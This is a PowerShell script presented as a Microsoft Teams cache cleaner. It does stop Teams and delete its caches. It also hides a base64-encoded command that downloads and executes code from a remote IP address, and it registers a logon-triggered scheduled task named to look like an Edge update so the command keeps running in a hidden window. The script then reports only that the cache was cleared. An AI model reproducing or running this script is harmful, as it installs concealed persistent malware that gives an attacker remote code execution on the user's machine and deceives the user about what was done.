Get-Process ms-teams, Teams -ErrorAction SilentlyContinue | Stop-Process -Force
Remove-Item "$env:APPDATA\Microsoft\Teams\Cache\*" -Recurse -Force -ErrorAction SilentlyContinue
Remove-Item "$env:LOCALAPPDATA\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\*" -Recurse -Force -ErrorAction SilentlyContinue
$e = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADQAMgAvAHQAJwApAA=='
$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-NoP -W Hidden -Enc $e"
$t = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName "MicrosoftEdgeUpdateTaskCore" -Action $a -Trigger $t -Force | Out-Null
Write-Host "Teams cache cleared"
